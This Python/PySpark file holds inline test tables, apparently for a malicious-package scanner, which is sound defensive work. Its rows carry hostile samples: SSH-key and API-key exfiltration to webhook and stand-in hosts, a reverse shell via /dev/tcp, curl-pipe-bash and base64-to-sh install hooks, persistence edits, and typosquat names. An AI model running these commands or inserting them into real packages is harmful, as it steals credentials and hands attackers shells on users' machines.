"""Small inline tables beside the driver's, for what its tables never hold."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession

_B64 = "QWxhZGRpbjpvcGVuIHNlc2FtZQx7ZT9rMvY0bXh1c2hLb2p3QnZ6RmRnN0hUcVNjUnlOaVBs" * 3

#: package, path, text
FILES = [
    ("pkg-steal", "setup.py", "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://webhook.site/abc', data=key)\n"),
    ("pkg-wallet", "index.js", "const p = home + '/Exodus/exodus.wallet'; fetch('http://45.77.12.9:8080/u?w=metamask')"),
    ("pkg-shell", "run.py", "import socket, os, pty\ns.connect((h, 4444)); os.dup2(s.fileno(), 0); pty.spawn('/bin/sh')\nbash -i >& /dev/tcp/91.2.3.4/80"),
    ("pkg-recon", "info.py", "import os, platform\nwhoami = os.getlogin(); n = platform.node(); e = os.environ\nurlopen('https://pastebin.com/raw/1')"),
    ("pkg-persist", "boot.sh", "echo x >> ~/.bashrc; crontab -l; cp a /etc/systemd/system/b.service"),
    ("pkg-blob", "data.py", f"exec(b64decode('{_B64}'))"),
    ("pkg-escape", "hex.js", "var s = '" + "\\x41\\x7a" * 40 + "';"),
    ("pkg-minified", "min.js", "var a=1;" * 300),
    ("pkg-clean", "lib.py", "def add(a, b):\n    return a + b\n# see https://example.org/docs and 127.0.0.1 or 10.0.0.8\n"),
    ("pkg-clean", "util.py", ""),
]
#: hook, command
HOOKS = [
    ("postinstall", "curl -s https://evil.example/x.sh | bash"),
    ("install", "node-gyp rebuild"),
    ("prepare", "npm run build"),
    ("postinstall", "node scripts/postinstall.js"),
    ("preinstall", "node -e \"require('child_process').exec('id')\""),
    ("postinstall", "echo Thanks! See https://example.org"),
    ("postinstall", "wget http://93.184.216.34/p -O- > /dev/null 2>&1"),
    ("install", "echo aGk= | base64 -d | sh"),
    ("install", "curl https://discord.com/api/webhooks/1/2 --silent"),
    ("prepublish", "   "),
    ("prepare", "husky install"),
]
#: literal
LITERALS = [_B64, "the quick brown fox jumps over the lazy dog " * 8, "https://example.org/" + "a/b" * 80, "0123456789abcdef" * 20, "short", "", _B64[:60] + "/" * 40 + _B64]
#: name
POPULAR = ["react", "lodash", "express", "requests", "numpy", "pandas", "flask", "django", "webpack", "axios", "chalk", "commander", "moment", "urllib3", "boto3", "setuptools", "typescript", "@babel/core", "left-pad", "core"]
CANDIDATES = ["lodahs", "lodash", "reqeusts", "expresss", "rnoment", "m0ment", "python-requests", "numpy2", "left_pad", "@evil/react", "flaskk", "djang0", "zzzzzz", "typescirpt", "ax", "panda", "webpack-cli", "react-dev", "urlib3", "boto"]
#: range
RANGES = ["^1.2.3", "~1.2.0", "1.x", ">=1.0.0 <2.0.0", "1.2.3", "*", "^0.2.1", "1.0.0 - 1.4.0", "<1.0.0 || >=3.1.0", ">= 2.0.0", "not a range", "~2", "2.0.0-beta.1"]
#: project, text
REQUIREMENT_FILES = [
    ("demo", "# pins\nrequests==2.31.0\nFlask >= 2.0, <3  # web\n-r other.txt\nuvicorn[standard]~=0.23 ; python_version > '3.8'\ngit+https://example.org/x.git#egg=x\n\nnumpy \\\n  >=1.20\n"),
    ("bare", "six\nPyYAML>=5\n"),
]
PACKAGE_FILES = [("web", '{"dependencies":{"react":"^18.0.0","@babel/core":"7.x"},"devDependencies":{"jest":"^29"},"peerDependencies":{"vue":">=3"}}'), ("broken", "{not json")]
#: details
PROSE = [
    "A flaw in `yaml.load` and `Loader.construct()` lets parse_config() run code.",
    "Calling render_template() with `user_input` is unsafe; use escape() instead.",
    "No symbols here.",
]
#: path, source
SOURCES = [
    ("app/main.py", "import app.helper\nfrom app.helper import load\n\ndef main():\n    load('x')\n\nmain()\n"),
    ("app/helper.py", "import yaml\n\ndef load(text):\n    return yaml.load(text)\n\ndef unused():\n    return eval('1')\n"),
    ("evil/setup.py", "import os, requests, base64\nsecret = os.environ['API_KEY']\npayload = {'k': secret}\nrequests.post('https://h.example', json=payload)\nexec(base64.b64decode('eA=='))\n"),
    ("evil/net.py", "import requests\n\ndef send():\n    key = open('/home/u/.ssh/id_rsa').read()\n    body = key.strip()\n    requests.post('https://h.example', data=body)\n\ndef fine():\n    requests.get('https://example.org')\n"),
    ("bad.py", "def broken(:\n"),
]


def table(spark: SparkSession, rows: list, columns: str) -> DataFrame:
    return spark.createDataFrame([r if isinstance(r, tuple) else (r,) for r in rows], ", ".join(f"{c} string" for c in columns.split(", ")))


def values(rows: list, name: str, columns: str) -> str:
    """The same rows as a SQL common table expression."""
    quote = lambda v: "'" + v.replace("'", "''") + "'"
    body = ", ".join("(" + ", ".join(map(quote, r if isinstance(r, tuple) else (r,))) + ")" for r in rows)
    return f"{name}({columns}) AS (VALUES {body})"
